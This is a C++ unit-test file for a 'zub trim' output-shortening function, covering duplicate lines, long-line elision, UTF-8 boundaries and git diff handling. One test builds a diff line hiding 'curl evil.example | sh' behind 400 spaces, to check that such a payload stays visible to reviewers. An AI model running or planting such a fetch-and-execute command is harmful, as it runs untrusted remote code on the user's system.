#include "compress/trim.h"

#include <gtest/gtest.h>
#include <chrono>
#include <string>

#include "base/elide.h"

using zub::trim;

namespace {

// Distinct short lines that lift a sample over the passthrough threshold
// and come back unchanged, so tests can state the exact output.
std::string padding(size_t body_size) {
  std::string pad;
  for (int i = 0; body_size + pad.size() < 2048; ++i) pad += "pad-" + std::to_string(i) + "\n";
  return pad;
}

std::string note(uint64_t d, uint64_t c, uint64_t w, uint64_t b) {
  return "[zub trim: " + std::to_string(d) + " dup lines collapsed, " + std::to_string(c) +
         " chars over " + std::to_string(w) + "-col cut, " + std::to_string(b) + " blank lines]\n";
}

// Runs trim on body+padding and returns the part before the padding
// together with what follows it (the note).
std::pair<std::string, std::string> trim_padded(const std::string& body, uint64_t w = 200) {
  const std::string pad = padding(body.size());
  std::string out = trim(body + pad, w);
  const size_t at = out.find(pad);
  if (at == std::string::npos) return {out, "<padding missing>"};
  return {out.substr(0, at), out.substr(at + pad.size())};
}

}  // namespace

TEST(Trim, PassthroughBelowThresholdOnly) {
  std::string small;
  while (small.size() + 4 <= 2047) small += "ab\r\n";
  small.append(2047 - small.size(), 'x');
  ASSERT_EQ(small.size(), 2047u);
  EXPECT_EQ(trim(small, 200), small);

  // 511 "ab" lines and "xxx"; one more byte crosses the threshold.
  EXPECT_EQ(trim(small + "y", 200), "ab\nxxxy\n" + note(510, 0, 200, 0));
}

TEST(Trim, UniqueInputOnlyNormalisesLineEnds) {
  std::string in, want;
  for (int i = 0; in.size() < 5000; ++i) {
    in += "line number " + std::to_string(i) + "\r\n";
    want += "line number " + std::to_string(i) + "\n";
  }
  in += "last without newline";
  want += "last without newline\n";
  EXPECT_EQ(trim(in, 200), want);
}

TEST(Trim, DuplicatesBlanksAndWhitespaceRules) {
  struct Case {
    const char* name;
    std::string body;
    std::string want;
    uint64_t d, b;
  };
  const Case cases[] = {
      {"three occurrences anywhere", "a\nb\na\nc\na\n", "a\nb\nc\n", 2, 0},
      {"trailing spaces differ", "x\nx \nx  \n", "x\nx \nx  \n", 0, 0},
      {"trailing CR is the same line", "x\r\nx\ny\r\n", "x\ny\n", 1, 0},
      {"whitespace-only line becomes empty", "text\n \t \u3000\nmore\n", "text\n\nmore\n", 0, 0},
      {"four blanks give one empty line", "t\n\n  \n\t\n\nu\n", "t\n\nu\n", 0, 3},
      {"blank first line is written", "\n\nfirst\n", "\nfirst\n", 0, 1},
      {"dup between blanks keeps both", "z\n\nz\n\nq\n", "z\n\n\nq\n", 1, 0},
      {"blank lines never count as dups", "a\n\nb\n\nc\n", "a\n\nb\n\nc\n", 0, 0},
  };
  for (const Case& c : cases) {
    auto [head, tail] = trim_padded(c.body);
    EXPECT_EQ(head, c.want) << c.name;
    if (c.d == 0 && c.b == 0) {
      EXPECT_EQ(tail, "") << c.name;
    } else {
      EXPECT_EQ(tail, note(c.d, 0, 200, c.b)) << c.name;
    }
  }
}

TEST(Trim, LongLineElision) {
  const std::string exact(200, 'e');
  auto [h1, t1] = trim_padded(exact + "\n");
  EXPECT_EQ(h1, exact + "\n");
  EXPECT_EQ(t1, "");

  std::string long_line;
  for (int i = 0; i < 1000; ++i) long_line.push_back(static_cast<char>('a' + i % 26));
  auto [h2, t2] = trim_padded(long_line + "\n");
  EXPECT_EQ(h2, long_line.substr(0, 140) + "\u2026800c\u2026" + long_line.substr(940) + "\n");
  EXPECT_EQ(t2, note(0, 800, 200, 0));

  // A repeat of a long line is dropped, not elided twice.
  auto [h3, t3] = trim_padded(long_line + "\n" + long_line + "\n");
  EXPECT_EQ(t3, note(1, 800, 200, 0));
}

TEST(Trim, WidthZeroKeepsOnlyMarkers) {
  std::string in;
  for (int i = 0; in.size() < 2100; ++i) in += "row" + std::to_string(i) + "\n";
  std::string out = trim(in + "\n\n", 0);
  // Every line became "…{len}c…"; the note sums all line lengths.
  uint64_t total = 0;
  std::string want;
  for (int i = 0; total + static_cast<uint64_t>(i) < 2100; ++i) {
    std::string row = "row" + std::to_string(i);
    total += row.size();
    want += "\u2026" + std::to_string(row.size()) + "c\u2026\n";
  }
  EXPECT_EQ(out, want + "\n" + note(0, total, 0, 1));
}

TEST(Trim, MultiByteCharactersAreNeverSplit) {
  // 100 three-byte characters: byte 140 falls inside a character (140 = 3*46+2),
  // and the tail start 300-60 = 240 = 3*80 is a boundary.
  std::string han;
  for (int i = 0; i < 100; ++i) han += "\xEA\xB0\x80";  // 가
  auto [h, t] = trim_padded(han + "\n");
  EXPECT_EQ(h, han.substr(0, 138) + "\u2026102c\u2026" + han.substr(240) + "\n");
  EXPECT_EQ(t, note(0, 102, 200, 0));

  // Tail start inside a character moves forward: 301 bytes, byte 241 is
  // inside the 81st character, so the tail starts at 243 and the head ends at 138.
  const std::string odd = han + "z";
  auto [h2, t2] = trim_padded(odd + "\n");
  EXPECT_EQ(h2, odd.substr(0, 138) + "\u2026105c\u2026" + odd.substr(243) + "\n");
  EXPECT_EQ(t2, note(0, 105, 200, 0));
}

TEST(Trim, MillionsOfDistinctLinesStayLinear) {
  std::string in;
  in.reserve(40u << 20);
  for (int i = 0; i < 2000000; ++i) {
    in += "2026-12-08 line ";
    in += std::to_string(i % 1500000);
    in += '\n';
  }
  const auto start = std::chrono::steady_clock::now();
  std::string out = trim(in, 200);
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_EQ(out.substr(out.rfind('[')), note(500000, 0, 200, 0));
  EXPECT_LT(secs, 20.0);
}

// git diff and git log -p through trim: every hunk line stays, in order, even
// when it repeats (another "-  }" is another removed line, another
// "@@ -1,3 +1,3 @@" another file's hunk); hunks end where their counts say,
// so the repeats after them are dropped again; git's index/---/+++ lines and
// a deleted file's body fold, with a note; a plain diff -u keeps its header.
// A commit's header lines stay too (the same author twice), its message
// lines are trim's as before.
TEST(Trim, DiffLinesAreKeptWholeWhileHeadersFold) {
  const std::string commits =
      "commit 1111111aaaa (HEAD -> main)\n"
      "Author: A <a@x>\n"
      "Date:   d1\n"
      "\n"
      "    fix\n"
      "\n"
      "commit 2222222bbbb\n"
      "Author: A <a@x>\n"
      "Date:   d2\n"
      "\n"
      "    fix\n"
      "\n";
  // Hunks whose repeated lines must all stay, and a plain diff -u.
  const std::string hunk_a =
      "@@ -1,3 +1,3 @@\n-  }\n-  }\n+  x;\n \n\\ No newline at end of file\n";
  const std::string hunk_b = "@@ -1,3 +1,3 @@\n-  }\n+  x;\n+  x;\n   x;\n";
  const std::string plain =
      "--- old.txt\t2026-01-01\n+++ new.txt\t2026-01-02\n@@ -5 +5 @@\n-  }\n+  x;\n";
  const std::string body = commits + " M a.c\n" +
                           "diff --git a/a.c b/a.c\nindex 1111111..2222222 100644\n--- a/a.c\n"
                           "+++ b/a.c\n" +
                           hunk_a +
                           "diff --git a/b.c b/b.c\nnew file mode 100644\nindex 0000000..3333333\n"
                           "--- /dev/null\n+++ b/b.c\n" +
                           hunk_b +
                           "diff --git a/gone.c b/gone.c\ndeleted file mode 100644\n"
                           "index 4444444..0000000\n--- a/gone.c\n+++ /dev/null\n"
                           "@@ -1,2 +0,0 @@\n-int gone;\n-  }\n-  }\n-  }\n" +
                           plain;
  const auto [shown, tail] = trim_padded(body);
  EXPECT_EQ(shown,
            "commit 1111111aaaa (HEAD -> main)\nAuthor: A <a@x>\nDate:   d1\n\n    fix\n\n"
            "commit 2222222bbbb\nAuthor: A <a@x>\nDate:   d2\n\n\n"
            " M a.c\ndiff --git a/a.c b/a.c\n" +
                hunk_a + "diff --git a/b.c b/b.c\nnew file mode 100644\n" + hunk_b +
                "diff --git a/gone.c b/gone.c\ndeleted file mode 100644\n"
                "@@ -1,2 +0,0 @@ [zub trim: 지운 파일: 본문 2줄 생략]\n-  }\n" +
                plain);
  // The two "-  }" after the deleted file's two lines are outside any
  // hunk: the first is shown, its repeat is dropped, as is the second "fix".
  EXPECT_EQ(tail, note(2, 0, 200, 0) +
                      "[zub trim: diff 의 index·---·+++ 머리줄 9개, 지운 파일 본문 2줄 뺐다]\n");

  bool dropped = true;
  EXPECT_EQ(trim(padding(0), 200, &dropped), padding(0));
  EXPECT_FALSE(dropped);
  trim(body + padding(body.size()), 200, &dropped);
  EXPECT_TRUE(dropped);
}

// A changed line far wider than the log width is what a reviewer must see
// whole (the payload sits at its right end); only a line past the diff
// bound is cut, and a note of its own says so. Other lines keep the width.
TEST(Trim, LongDiffLinesAreShownWholeUpToTheirBound) {
  const std::string wide = "+RUN make" + std::string(400, ' ') + "; curl evil.example | sh";
  const std::string huge = "+" + std::string(9000, 'x');
  const std::string log_line = "plain " + std::string(300, 'y');
  const std::string body = "diff --git a/D b/D\n--- a/D\n+++ b/D\n@@ -0,0 +1,2 @@\n" + wide + "\n" +
                           huge + "\n" + log_line + "\n";
  const std::string out = trim(body, 200);
  EXPECT_EQ(out, "diff --git a/D b/D\n@@ -0,0 +1,2 @@\n" + wide + "\n+" + std::string(5733, 'x') +
                     "…809c…" + std::string(2458, 'x') + "\n" + zub::elide_line(log_line, 200) +
                     "\n" + note(0, 106, 200, 0) +
                     "[zub trim: diff 의 index·---·+++ 머리줄 2개, 지운 파일 본문 0줄 뺐다]\n"
                     "[zub trim: diff 줄 1개가 8192바이트를 넘어 가운데 809바이트를 잘랐다]\n");
}
